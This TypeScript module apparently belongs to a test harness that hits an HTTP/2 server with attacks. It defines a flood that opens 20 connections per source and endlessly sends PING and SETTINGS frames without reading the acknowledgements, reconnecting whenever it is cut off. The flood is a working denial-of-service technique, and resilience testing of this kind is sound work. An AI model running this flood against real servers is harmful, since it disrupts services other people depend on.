import { type Attack, dialFrom, keepSending } from "../support/attack.ts";
import { frame, PREFACE, SETTINGS } from "../support/raw-frames.ts";

const CONNECTIONS = 20;
const PING = frame(6, 0, 0, Buffer.alloc(8));
const FRAMES = Buffer.concat(
  Array.from({ length: 500 }, (_, n) => (n % 2 === 0 ? PING : SETTINGS)),
);

/** Asks for acknowledgements and reads none; comes again when it is cut. */
export const attack: Attack = {
  title: "PING and SETTINGS without end, their acknowledgements not read",
  async run({ address, from }) {
    const begin = (each: string) => {
      const socket = dialFrom(address, each);
      socket.write(Buffer.concat([PREFACE, SETTINGS]));
      return socket;
    };
    const places = from.flatMap((each) => Array.from({ length: CONNECTIONS }, () => each));
    await keepSending(places, begin, FRAMES);
  },
};
